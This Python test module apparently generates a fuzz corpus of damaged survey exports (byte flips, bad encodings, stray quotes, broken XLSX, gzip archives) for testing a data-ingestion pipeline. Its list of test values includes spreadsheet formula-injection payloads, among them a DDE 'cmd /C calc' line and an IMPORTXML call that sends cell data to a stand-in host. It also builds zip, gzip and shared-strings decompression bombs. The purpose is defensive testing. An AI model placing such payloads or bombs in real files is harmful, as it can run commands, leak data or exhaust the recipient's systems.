"""A deterministic corpus of malformed exports made from the fixture city's exports.

``generate(out_dir, seed)`` writes the files and returns one :class:`Case` per file: its family
(byte flips, truncation, encodings, ragged rows, stray quotes, XLSX damage, gzip bombs...), the
``--platform`` to ingest it with, and the identifiers planted in it (which must never reach the
store). The same seed gives the same bytes on every machine: every case has its own
``random.Random`` seeded by a string (hashed with SHA-512 by Python, independent of
``PYTHONHASHSEED``), and nothing depends on set or dict order.

The bases are the first :data:`BASE_ROWS` responses of each fixture export (Qualtrics,
SurveyMonkey, KoboToolbox, and the generic one-header CSV), so one case ingests in a fraction of a
second. Nothing here is committed: the harness generates the corpus into a temporary folder.
"""

from __future__ import annotations

import csv
import gzip
import io
import random
import struct
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

FIXTURE = Path(__file__).resolve().parents[2] / "data" / "fixtures" / "riverton"
BASE_ROWS = 300
BASES: dict[str, tuple[str, str, int]] = {
    # name: (file under the fixture city, platform, header rows)
    "qualtrics": ("exports/2024-spring_qualtrics.csv.gz", "qualtrics", 3),
    "surveymonkey": ("exports/2025-spring_surveymonkey.csv.gz", "surveymonkey", 2),
    "kobo": ("exports/2026-spring_kobo.csv.gz", "kobo", 1),
    "generic": ("generic/2024-spring.csv.gz", "generic", 1),
}
#: The wave the harness loads first (the good wave every case is ingested next to).
GOOD_BASE = "qualtrics"

EMAILS = ("jane.roe@example.org", "J.Smith+police@mail.example.com", "carlos_ruiz@correo.example.net")
PHONES = ("(555) 014-2368", "555-014-7789", "+1 217 555 0143", "+44 20 7946 0958", "+34 612 34 56 78",
          "217.555.0199", "+52 55 1234 5678")
"""Planted identifiers. The phones are fictional ranges (555-01xx, Ofcom's drama numbers) in the
forms residents type them."""

FAMILIES: dict[str, int] = {
    "byte_flips": 260, "truncation": 140, "nul_bytes": 80, "encodings": 140, "invalid_byte": 60,
    "ragged_rows": 160, "duplicate_headers": 60, "stray_quotes": 120, "delimiter_switch": 60,
    "line_endings": 40, "header_only": 40, "huge_cells": 40, "formula_cells": 60, "empty_finished": 60,
    "dates": 60, "status_mangled": 60, "identifiers": 160, "wrong_platform": 60, "xlsx": 240, "gzip": 120,
}
"""Cases per family (2,020 in all)."""

EXACT_ROWS = frozenset({
    "encodings", "invalid_byte", "ragged_rows", "stray_quotes", "delimiter_switch", "line_endings", "huge_cells",
    "formula_cells", "empty_finished", "dates", "status_mangled", "identifiers", "wrong_platform"})
"""Families whose files still hold exactly the base's responses: loaded, every one must be read
(kept or quarantined): a stray quote or a switched delimiter that merges rows is silent loss."""
EXACT_KINDS = frozenset({"valid workbook", "data on the 2nd sheet", "gzip of a good export", "two concatenated gzip members"})
"""The same, for these XLSX and gzip cases."""
ALIGNMENT = frozenset({"encodings", "invalid_byte", "ragged_rows", "stray_quotes", "delimiter_switch", "line_endings",
                       "huge_cells", "wrong_platform"})
"""Families where a stored response id or language not in the base file is a misaligned row."""

FORMULAS = ("=HYPERLINK(\"http://evil.example/\",\"click\")", "=1+2", "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "-2+3", "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")", "\t=1", "=cmd|'/c calc'!'A1'")


@dataclass
class Case:
    """One malformed export: where it is, what it is, and how to ingest it."""

    name: str
    family: str
    base: str
    path: Path
    platform: str = "auto"
    planted: list[str] = field(default_factory=list)
    what: str = ""
    expect_rows: int | None = None  # when loaded, the rows read must be these (the file's true responses)
    must_refuse: bool = False


@dataclass
class Base:
    name: str
    platform: str
    header_rows: int
    text: str  # the export as text (the first BASE_ROWS responses), original line ends
    delimiter: str
    bom: bool
    records: list[list[str]]  # parsed records (header rows first)

    def render(self, records: list[list[str]], delimiter: str | None = None, eol: str = "\r\n") -> str:
        buf = io.StringIO()
        w = csv.writer(buf, delimiter=delimiter or self.delimiter, lineterminator=eol)
        w.writerows(records)
        return buf.getvalue()

    def col(self, *names: str) -> int | None:
        """Index of the first header (row 1) among ``names``."""
        head = self.records[0]
        for n in names:
            if n in head:
                return head.index(n)
        return None

    def open_cols(self) -> list[int]:
        """Columns of open-ended answers (comments, 'other, specify' text)."""
        head = self.records[0]
        sub = self.records[1] if self.header_rows > 1 else [""] * len(head)
        out = [i for i, h in enumerate(head) if "comment" in h.lower() or h.endswith("_TEXT")
               or "anything else" in h.lower() or (i < len(sub) and sub[i] == "Open-Ended Response")]
        return out or [len(head) - 1]


def load_bases(rows: int = BASE_ROWS) -> dict[str, Base]:
    out = {}
    for name, (rel, platform, k) in BASES.items():
        raw = gzip.decompress((FIXTURE / rel).read_bytes())
        bom = raw.startswith(b"\xef\xbb\xbf")
        text = raw.decode("utf-8-sig")
        delim = ";" if platform == "kobo" else ","
        records = list(csv.reader(io.StringIO(text, newline=""), delimiter=delim))[: k + rows]
        base = Base(name, platform, k, "", delim, bom, records)
        base.text = base.render(records)
        out[name] = base
    return out


def _enc(base: Base, text: str) -> bytes:
    return (b"\xef\xbb\xbf" if base.bom else b"") + text.encode("utf-8")


def _data_rows(base: Base) -> range:
    return range(base.header_rows, len(base.records))


# ----------------------------------------------------------------------------------- families


def _byte_flips(rng: random.Random, base: Base) -> tuple[bytes, str]:
    data = bytearray(_enc(base, base.text))
    k = rng.choice([1, 2, 5, 20, 100, 300, 600])
    lo = 0 if rng.random() < 0.3 else len(data) // 10
    for _ in range(k):
        i = rng.randrange(lo, len(data))
        data[i] = rng.randrange(256) if rng.random() < 0.5 else data[i] ^ (1 << rng.randrange(8))
    return bytes(data), f"{k} flipped bytes"


def _truncation(rng: random.Random, base: Base) -> tuple[bytes, str]:
    data = _enc(base, base.text)
    at = rng.choice([rng.randrange(1, 400), rng.randrange(len(data) // 20, len(data)), len(data) - rng.randrange(1, 6)])
    return data[:at], f"cut at byte {at} of {len(data)}"


def _nul_bytes(rng: random.Random, base: Base) -> tuple[bytes, str]:
    data = bytearray(_enc(base, base.text))
    how = rng.choice(["scatter", "run", "tail", "cell"])
    if how == "scatter":
        for _ in range(rng.randrange(1, 50)):
            data.insert(rng.randrange(len(data)), 0)
    elif how == "run":
        at = rng.randrange(len(data))
        data[at:at] = b"\x00" * rng.choice([10, 1000, 50000])
    elif how == "tail":
        data += b"\x00" * rng.choice([1, 512, 65536])
    else:
        at = rng.randrange(len(data) // 2, len(data))
        data[at:at] = b"abc\x00def"
    return bytes(data), f"NUL bytes ({how})"


ENCODINGS = ("cp1252", "latin-1", "utf-16-le", "utf-16-be", "utf-16", "utf-32", "utf-32-le", "utf-32-be",
             "utf-8-sig", "mac-roman", "cp850", "utf-16-le+bom", "utf-16-be+bom", "utf-8+spanish-cp1252-cell")


def _encodings(rng: random.Random, base: Base, i: int) -> tuple[bytes, str]:
    enc = ENCODINGS[i % len(ENCODINGS)]
    records = [list(r) for r in base.records]
    # Spanish text, so a wrong decode shows
    for r in rng.sample(list(_data_rows(base)), 10):
        c = rng.choice(base.open_cols())
        records[r][c] = rng.choice(["Más policía en el parque, señor", "Año difícil: ñandú, acción, über", "café €5"])
    text = base.render(records)
    if enc == "utf-8+spanish-cp1252-cell":
        return text.encode("utf-8").replace("señor".encode(), "señor".encode("cp1252")), enc
    if enc.endswith("+bom"):
        e = enc[:-4]
        bom = b"\xff\xfe" if e.endswith("le") else b"\xfe\xff"
        return bom + text.encode(e), enc
    return text.encode(enc, errors="replace"), enc


def _invalid_byte(rng: random.Random, base: Base) -> tuple[bytes, str]:
    records = [list(r) for r in base.records]
    for r in rng.sample(list(_data_rows(base)), 20):
        records[r][rng.choice(base.open_cols())] = "Más vigilancia en la noche, por favor"
    data = bytearray(_enc(base, base.render(records)))
    k = rng.choice([1, 1, 2, 5])
    for _ in range(k):
        at = rng.randrange(len(data) // 3, len(data))
        while data[at] in b',;"\r\n':
            at += 1
        data[at:at] = bytes([rng.choice([0xFF, 0xFE, 0xC0, 0x80, 0x9D, 0xE9])])
    return bytes(data), f"{k} invalid UTF-8 byte(s)"


def _ragged(rng: random.Random, base: Base) -> tuple[bytes, str]:
    lines = base.text.split("\r\n")
    how = rng.choice(["missing", "extra", "extra_values", "mixed", "many"])
    n = {"missing": rng.choice([1, 3]), "extra": rng.choice([1, 3]), "extra_values": 2, "mixed": 6, "many": 150}[how]
    d = base.delimiter
    for _ in range(n):
        i = rng.randrange(base.header_rows, len(lines) - 1)
        line = lines[i]
        kind = how if how in ("missing", "extra", "extra_values") else rng.choice(["missing", "extra_values"])
        if kind == "missing":
            pos = [j for j, ch in enumerate(line) if ch == d]
            if pos:
                j = rng.choice(pos)
                line = line[:j] + line[j + 1:]
        elif kind == "extra":
            j = rng.randrange(len(line) + 1)
            line = line[:j] + d + line[j:]
        else:
            line = line + d + "jane.roe@example.org" + d + "203.0.113.9"
        lines[i] = line
    return _enc(base, "\r\n".join(lines)), f"ragged rows ({how}, {n})"


def _duplicate_headers(rng: random.Random, base: Base) -> tuple[bytes, str]:
    records = [list(r) for r in base.records]
    how = rng.choice(["rename", "repeat_header", "all_same", "empty"])
    if how == "rename":
        for _ in range(rng.choice([1, 3, 10])):
            a, b = rng.randrange(len(records[0])), rng.randrange(len(records[0]))
            records[0][a] = records[0][b]
    elif how == "repeat_header":
        at = rng.randrange(base.header_rows, len(records))
        records[at:at] = [list(r) for r in records[: base.header_rows]]
    elif how == "all_same":
        records[0] = ["Q1"] * len(records[0])
    else:
        for j in rng.sample(range(len(records[0])), 10):
            records[0][j] = ""
    return _enc(base, base.render(records)), f"duplicate headers ({how})"


def _stray_quotes(rng: random.Random, base: Base) -> tuple[bytes, str]:
    text = base.text
    lines = text.split("\r\n")
    how = rng.choice(["open_cell", "mid_cell", "many", "end"])
    if how == "open_cell":  # a cell that starts with a quote never closed: the parser swallows rows
        i = rng.randrange(base.header_rows, len(lines) - 1)
        cells = lines[i].split(base.delimiter)
        j = rng.randrange(len(cells))
        cells[j] = '"' + cells[j]
        lines[i] = base.delimiter.join(cells)
    elif how == "mid_cell":
        i = rng.randrange(base.header_rows, len(lines) - 1)
        j = rng.randrange(len(lines[i]) + 1)
        lines[i] = lines[i][:j] + '"' + lines[i][j:]
    elif how == "many":
        for _ in range(rng.randrange(2, 20)):
            i = rng.randrange(0, len(lines) - 1)
            j = rng.randrange(len(lines[i]) + 1)
            lines[i] = lines[i][:j] + '"' + lines[i][j:]
    else:
        lines[-2] = lines[-2] + base.delimiter + '"unterminated'
    return _enc(base, "\r\n".join(lines)), f"stray quote ({how})"


def _delimiter_switch(rng: random.Random, base: Base) -> tuple[bytes, str]:
    other = rng.choice([d for d in (",", ";", "\t", "|") if d != base.delimiter])
    at = rng.randrange(base.header_rows, len(base.records))
    text = base.render(base.records[:at]) + base.render(base.records[at:], delimiter=other)
    return _enc(base, text), f"delimiter switches to {other!r} at record {at + 1}"


def _line_endings(rng: random.Random, base: Base) -> tuple[bytes, str]:
    how = rng.choice(["cr", "lf", "mixed", "crcrlf"])
    text = base.text
    if how == "cr":
        text = text.replace("\r\n", "\r")
    elif how == "lf":
        text = text.replace("\r\n", "\n")
    elif how == "crcrlf":
        text = text.replace("\r\n", "\r\r\n")
    else:
        parts = text.split("\r\n")
        text = "".join(p + rng.choice(["\r\n", "\n", "\r"]) for p in parts)
    return _enc(base, text), f"line endings ({how})"


def _header_only(rng: random.Random, base: Base) -> tuple[bytes, str]:
    how = rng.choice(["header", "header+blank", "header+delims", "first_row"])
    recs = base.records[: base.header_rows]
    if how == "first_row":
        recs = base.records[:1]
    text = base.render(recs)
    if how == "header+blank":
        text += "\r\n\r\n\r\n"
    elif how == "header+delims":
        text += (base.delimiter * (len(base.records[0]) - 1) + "\r\n") * 3
    return _enc(base, text), f"header only ({how})"


def _huge_cells(rng: random.Random, base: Base) -> tuple[bytes, str]:
    records = [list(r) for r in base.records]
    how = rng.choice(["big", "newlines", "wide_row", "many_big"])
    r = rng.randrange(base.header_rows, len(records))
    c = rng.choice(base.open_cols())
    if how == "big":
        records[r][c] = "x" * rng.choice([100_000, 2_000_000])
    elif how == "newlines":
        records[r][c] = ("line\n" + base.delimiter) * 20000
    elif how == "wide_row":
        records[r] = records[r] + ["y"] * 20000
    else:
        for r in rng.sample(list(_data_rows(base)), 50):
            records[r][c] = "z" * 20000
    return _enc(base, base.render(records)), f"huge cells ({how})"


def _formula_cells(rng: random.Random, base: Base) -> tuple[bytes, str]:
    records = [list(r) for r in base.records]
    where = rng.choice(["answers", "header", "open"])
    for _ in range(rng.randrange(1, 30)):
        f = rng.choice(FORMULAS)
        if where == "header":
            records[0][rng.randrange(len(records[0]))] = f
        elif where == "open":
            records[rng.randrange(base.header_rows, len(records))][rng.choice(base.open_cols())] = f
        else:
            r = rng.randrange(base.header_rows, len(records))
            records[r][rng.randrange(len(records[r]))] = f
    return _enc(base, base.render(records)), f"formula cells ({where})"


def _set_meta(rng: random.Random, base: Base, names: tuple[str, ...], values: list[str], share: float) -> list[list[str]]:
    records = [list(r) for r in base.records]
    col = base.col(*names)
    if col is None:
        col = 0
    for r in _data_rows(base):
        if rng.random() < share:
            records[r][col] = rng.choice(values)
    return records


def _empty_finished(rng: random.Random, base: Base) -> tuple[bytes, str]:
    share = rng.choice([0.01, 0.3, 1.0])
    records = _set_meta(rng, base, ("Finished", "finished", "_status", "End Date"), ["", " ", "TRUE ", "nan", "2"], share)
    if rng.random() < 0.3:  # a truncated download: the last row stops after the Finished column
        col = base.col("Finished", "finished") or 3
        records[-1] = records[-1][:col + 1]
        records[-1][col] = ""
    return _enc(base, base.render(records)), f"empty Finished ({share:.0%})"


DATES = ("9999-12-31 23:59:59", "0001-01-01 00:00:00", "2024-13-45 25:61:00", "99999-01-01", "1677-09-21 00:12:43",
         "2262-04-12 00:00:00", "10000-01-01T00:00:00", "12/31/9999 11:59:59 PM", "-2024-03-01", "2024-02-30T10:00:00.000-05:00",
         "1e308", "0000-00-00 00:00:00", "9999-12-31T23:59:59.999+14:00")


def _dates(rng: random.Random, base: Base) -> tuple[bytes, str]:
    records = [list(r) for r in base.records]
    cols = [c for c in (base.col("StartDate", "Start Date", "start", "start_time"),
                        base.col("EndDate", "End Date", "end", "end_time"),
                        base.col("RecordedDate", "_submission_time")) if c is not None]
    share = rng.choice([0.01, 0.2, 1.0])
    for r in _data_rows(base):
        for c in cols:
            if rng.random() < share:
                records[r][c] = rng.choice(DATES)
    return _enc(base, base.render(records)), f"out-of-range dates ({share:.0%})"


def _status_mangled(rng: random.Random, base: Base) -> tuple[bytes, str]:
    def mangle(v: str) -> str:
        how = rng.choice(["flip", "text", "email", "ip", "long"])
        if how == "flip" and v:
            b = bytearray(v.encode())
            b[rng.randrange(len(b))] ^= 1 << rng.randrange(7)
            return b.decode("utf-8", errors="replace")
        return {"text": "IP Addresz", "email": "jane.roe@example.org", "ip": "203.0.113.77",
                "long": "S" * 5000}.get(how, "Surv%y Preview")

    records = [list(r) for r in base.records]
    col = base.col("Status", "status", "_validation_status", "Collector ID")
    share = rng.choice([0.02, 0.3])
    for r in _data_rows(base):
        if rng.random() < share:
            records[r][col] = mangle(records[r][col])
    return _enc(base, base.render(records)), "mangled Status"


def _identifiers(rng: random.Random, base: Base) -> tuple[bytes, str, list[str]]:
    records = [list(r) for r in base.records]
    planted: list[str] = []
    templates = ("Call me at {p}", "{e}", "email {e} or phone {p}", "Mi correo es {e}, tel. {p}",
                 "{p}", "contact: <{e}>", "Officer was rude ({p} is my cell)")
    for _ in range(rng.randrange(1, 25)):
        e, p = rng.choice(EMAILS), rng.choice(PHONES)
        t = rng.choice(templates).format(e=e, p=p)
        planted += [x for x in (e, p) if x in t]
        r = rng.randrange(base.header_rows, len(records))
        records[r][rng.choice(base.open_cols())] = t
    return _enc(base, base.render(records)), "e-mail/phone in open text", sorted(set(planted))


def _wrong_platform(rng: random.Random, base: Base, i: int) -> tuple[bytes, str, str]:
    others = ["qualtrics", "surveymonkey", "google_forms", "ms_forms", "kobo", "odk", "limesurvey", "generic"]
    wrong = [p for p in others if p != base.platform][i % 7]
    return _enc(base, base.text), f"--platform {wrong}", wrong


# ------------------------------------------------------------------------------------- XLSX


def _xlsx_bytes(records: list[list[str]], sheets: list[str] | None = None, data_sheet: int = 0,
                formulas: dict[tuple[int, int], str] | None = None) -> bytes:
    """A minimal valid workbook written by hand (inline strings), fast and under our control."""
    from xml.sax.saxutils import escape

    def col_name(j: int) -> str:
        s = ""
        j += 1
        while j:
            j, r = divmod(j - 1, 26)
            s = chr(65 + r) + s
        return s

    sheets = sheets or ["Sheet1"]
    formulas = formulas or {}
    rows_xml = []
    for i, rec in enumerate(records):
        cells = []
        for j, v in enumerate(rec):
            ref = f"{col_name(j)}{i + 1}"
            if (i, j) in formulas:
                cells.append(f'<c r="{ref}"><f>{escape(formulas[(i, j)])}</f></c>')
            elif v != "":
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(v)}</t></is></c>')
        rows_xml.append(f'<row r="{i + 1}">{"".join(cells)}</row>')
    width = max((len(r) for r in records), default=1)
    data_xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                f'<dimension ref="A1:{col_name(width - 1)}{max(len(records), 1)}"/><sheetData>'
                + "".join(rows_xml) + "</sheetData></worksheet>")
    empty_xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>')
    return _package({i: (data_xml if i == data_sheet else empty_xml) for i in range(len(sheets))}, sheets)


def _package(sheet_xml: dict[int, str | bytes], sheets: list[str], shared: str | bytes | None = None,
             compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    ns = "http://schemas.openxmlformats.org/"
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          f'<Types xmlns="{ns}package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
          + "".join(f'<Override PartName="/xl/worksheets/sheet{i + 1}.xml" '
                    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                    for i in range(len(sheets)))
          + ('<Override PartName="/xl/sharedStrings.xml" '
             'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>' if shared else "")
          + "</Types>")
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Relationships xmlns="{ns}package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{ns}officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>")
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          f'<workbook xmlns="{ns}spreadsheetml/2006/main" xmlns:r="{ns}officeDocument/2006/relationships"><sheets>'
          + "".join(f'<sheet name="{s}" sheetId="{i + 1}" r:id="rId{i + 1}"/>' for i, s in enumerate(sheets))
          + "</sheets></workbook>")
    wb_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
               f'<Relationships xmlns="{ns}package/2006/relationships">'
               + "".join(f'<Relationship Id="rId{i + 1}" Type="{ns}officeDocument/2006/relationships/worksheet" '
                         f'Target="worksheets/sheet{i + 1}.xml"/>' for i in range(len(sheets)))
               + (f'<Relationship Id="rId{len(sheets) + 1}" Type="{ns}officeDocument/2006/relationships/sharedStrings" '
                  'Target="sharedStrings.xml"/>' if shared else "")
               + "</Relationships>")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress, compresslevel=1) as zf:
        put = _put(zf, compress)
        put("[Content_Types].xml", ct)
        put("_rels/.rels", rels)
        put("xl/workbook.xml", wb)
        put("xl/_rels/workbook.xml.rels", wb_rels)
        for i, xml in sheet_xml.items():
            put(f"xl/worksheets/sheet{i + 1}.xml", xml)
        if shared:
            put("xl/sharedStrings.xml", shared)
    return buf.getvalue()


def _put(zf: zipfile.ZipFile, compress: int = zipfile.ZIP_DEFLATED):
    """``zf.writestr`` with a fixed time stamp (the same bytes on every run)."""
    def put(name: str, data: str | bytes) -> None:
        zf.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data, compress_type=compress, compresslevel=1)
    return put


def _bomb_sheet(rows: int, cols: int, declared: str | None = None) -> bytes:
    """A worksheet of ``rows`` x ``cols`` numeric cells: megabytes of XML that deflate to kilobytes."""
    head = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            + (f'<dimension ref="{declared}"/>' if declared else "") + "<sheetData>").encode()
    row = b"<row>" + b"<c><v>1</v></c>" * cols + b"</row>"
    return head + row * rows + b"</sheetData></worksheet>"


def _xlsx(rng: random.Random, base: Base, i: int, cache: dict) -> tuple[bytes, str]:
    if base.name not in cache:
        cache[base.name] = _xlsx_bytes(base.records)
    good = cache[base.name]
    kinds = ("good", "flip", "truncate", "bad_crc", "missing_part", "zip_bomb", "shared_strings_bomb", "huge_dimension",
             "wide_dimension", "formulas", "no_data_sheet", "data_second_sheet", "many_sheets", "huge_cell",
             "not_xml", "stored_big", "cell_bomb")
    kind = kinds[i % len(kinds)]
    if kind == "good":
        return good, "valid workbook"
    if kind == "flip":
        data = bytearray(good)
        for _ in range(rng.choice([1, 10, 100])):
            data[rng.randrange(len(data))] = rng.randrange(256)
        return bytes(data), "xlsx with flipped bytes"
    if kind == "truncate":
        return good[: rng.randrange(10, len(good))], "truncated xlsx"
    if kind == "bad_crc":  # flip a byte inside the compressed sheet data
        data = bytearray(good)
        at = good.find(b"xl/worksheets/sheet1.xml") + 60
        data[at + rng.randrange(200)] ^= 0xFF
        return bytes(data), "xlsx with a damaged sheet stream"
    if kind == "missing_part":
        src = zipfile.ZipFile(io.BytesIO(good))
        drop = rng.choice(["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"])
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            put = _put(zf)
            for n in src.namelist():
                if n != drop:
                    put(n, src.read(n))
        return buf.getvalue(), f"xlsx without {drop}"
    if kind == "zip_bomb":
        rows = rng.choice([220_000, 400_000])  # 11 and 20 million cells: past the default cell limit
        return _package({0: _bomb_sheet(rows, 50)}, ["Sheet1"]), f"zip bomb ({rows} rows x 50 cells)"
    if kind == "shared_strings_bomb":
        n = rng.choice([1_000_000, 5_000_000])
        shared = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                  + f'count="{n}" uniqueCount="{n}">'.encode() + b"<si><t>" + b"A" * 200 + b"</t></si>" * 1 + b"<si><t>x</t></si>" * n + b"</sst>")
        sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                 '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
                 '<row r="2"><c r="A2" t="s"><v>1</v></c><c r="B2" t="s"><v>0</v></c></row></sheetData></worksheet>')
        return _package({0: sheet}, ["Sheet1"], shared=shared), f"shared-strings bomb ({n} strings)"
    if kind == "huge_dimension":
        sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                 '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row>'
                 '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>')
        return _package({0: sheet}, ["Sheet1"]), "declared dimension A1:XFD1048576, far cell"
    if kind == "wide_dimension":
        return _package({0: _bomb_sheet(3, 16384, "A1:XFD3")}, ["Sheet1"]), "16,384 columns"
    if kind == "formulas":
        f = {(rng.randrange(base.header_rows, len(base.records)), rng.randrange(len(base.records[0]))): rng.choice(FORMULAS).lstrip("=+@-\t")
             for _ in range(rng.randrange(1, 20))}
        if rng.random() < 0.3:
            f[(0, rng.randrange(len(base.records[0])))] = 'HYPERLINK("http://evil.example/","x")'
        return _xlsx_bytes(base.records, formulas=f), f"{len(f)} formula cell(s) without cached values"
    if kind == "no_data_sheet":
        return _xlsx_bytes([], sheets=["Sheet1", "Sheet2"]), "no sheet holds data"
    if kind == "data_second_sheet":
        return _xlsx_bytes(base.records, sheets=["Notes", "Responses"], data_sheet=1), "data on the 2nd sheet"
    if kind == "many_sheets":
        return _package({j: _xlsx_sheet_xml(base.records) for j in range(rng.choice([2, 5]))},
                        [f"S{j}" for j in range(5)][: 5]), "several sheets with data, some listed sheets missing"
    if kind == "huge_cell":
        recs = [list(r) for r in base.records]
        recs[base.header_rows][base.open_cols()[0]] = "x" * rng.choice([40_000, 5_000_000])
        return _xlsx_bytes(recs), "huge cell in a workbook"
    if kind == "not_xml":
        return _package({0: b"\x00\x01garbage" * 1000}, ["Sheet1"]), "sheet part is not XML"
    if kind == "stored_big":  # a part whose local header lies about its size
        data = bytearray(good)
        at = data.find(b"PK\x03\x04", 10)
        if at > 0:
            data[at + 22: at + 26] = struct.pack("<I", 0xFFFFFFF0)
        return bytes(data), "zip entry with a false declared size"
    # cell_bomb: one row with many cells of long numbers
    return _package({0: _bomb_sheet(20, 16000)}, ["Sheet1"]), "320,000 cells"


def _xlsx_sheet_xml(records: list[list[str]]) -> bytes:
    zf = zipfile.ZipFile(io.BytesIO(_xlsx_bytes(records)))
    return zf.read("xl/worksheets/sheet1.xml")


# ------------------------------------------------------------------------------------- gzip


def _gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _gzip(rng: random.Random, base: Base, i: int) -> tuple[bytes, str]:
    kinds = ("good", "truncated", "flipped", "bomb_zeros", "bomb_commas", "bomb_newlines", "concat", "bad_crc",
             "nested", "mangled_inner")
    kind = kinds[i % len(kinds)]
    raw = _enc(base, base.text)
    if kind == "good":
        return _gz(raw), "gzip of a good export"
    if kind == "truncated":
        g = _gz(raw)
        return g[: rng.randrange(10, len(g))], "truncated gzip"
    if kind == "flipped":
        g = bytearray(_gz(raw))
        for _ in range(rng.choice([1, 5, 50])):
            g[rng.randrange(10, len(g))] ^= 0xFF
        return bytes(g), "gzip with flipped bytes"
    if kind.startswith("bomb"):  # one 1 MB member compressed once, repeated: valid gzip, tiny on disk
        size = rng.choice([64, 512, 2048])
        unit = {"bomb_zeros": b"\x00", "bomb_commas": b",", "bomb_newlines": b"\n"}[kind]
        head = raw[: raw.index(b"\n") + 1] if kind != "bomb_zeros" else b""
        return (_gz(head) if head else b"") + _gz(unit * (1 << 20)) * size, f"gzip bomb ({size} MB of {unit!r})"
    if kind == "concat":
        cut = raw.index(b"\n", len(raw) // 2) + 1
        return _gz(raw[:cut]) + _gz(raw[cut:]), "two concatenated gzip members"
    if kind == "bad_crc":
        g = bytearray(_gz(raw))
        g[-8] ^= 0xFF
        return bytes(g), "gzip with a wrong CRC"
    if kind == "nested":
        return _gz(_gz(raw)), "gzip inside gzip"
    data, what = _stray_quotes(rng, base) if rng.random() < 0.5 else _byte_flips(rng, base)
    return _gz(data), f"gzip of a mangled export ({what})"


# --------------------------------------------------------------------------------- generate


def generate(out: Path, seed: int = 19, only: dict[str, list[int]] | None = None,
             bases: dict[str, Base] | None = None) -> list[Case]:
    """Write the corpus into ``out``; return its cases (in a stable order).

    ``only``: family -> the case numbers to write (see :func:`sample_plan`); default every case.
    """
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    bases = bases or load_bases()
    names = sorted(bases)
    cases: list[Case] = []
    xcache: dict = {}
    plan = only if only is not None else {f: list(range(n)) for f, n in FAMILIES.items()}
    for family, numbers in plan.items():
        for i in numbers:
            rng = random.Random(f"{seed}:{family}:{i}")
            base = bases[names[i % len(names)]]
            platform, planted, suffix = "auto", [], ".csv"
            if family == "encodings":
                data, what = _encodings(rng, base, i)
            elif family == "identifiers":
                data, what, planted = _identifiers(rng, base)
            elif family == "wrong_platform":
                data, what, platform = _wrong_platform(rng, base, i)
            elif family == "xlsx":
                data, what = _xlsx(rng, base, i, xcache)
                suffix = ".xlsx"
            elif family == "gzip":
                data, what = _gzip(rng, base, i)
                suffix = ".csv.gz"
            else:
                fn = globals()["_" + {"ragged_rows": "ragged"}.get(family, family)]
                data, what = fn(rng, base)
            expect = BASE_ROWS if family in EXACT_ROWS or what in EXACT_KINDS else None
            name = f"{family}-{i:04d}-{base.name}"
            path = out / (name + suffix)
            path.write_bytes(data)
            cases.append(Case(name=name, family=family, base=base.name, path=path, platform=platform,
                              planted=planted, what=what, expect_rows=expect, must_refuse=family == "header_only"))
    return cases


def sample_plan(n: int, seed: int = 19) -> dict[str, list[int]]:
    """About ``n`` case numbers spread over every family (the same ones for the same seed)."""
    per = max(1, n // len(FAMILIES))
    rng = random.Random(f"{seed}:sample")
    return {fam: sorted(rng.sample(range(k), min(per, k))) for fam, k in FAMILIES.items()}


if __name__ == "__main__":  # pragma: no cover - python -m tests.fuzz.corpus OUT
    import sys

    got = generate(Path(sys.argv[1]))
    print(f"{len(got)} cases in {sys.argv[1]}")
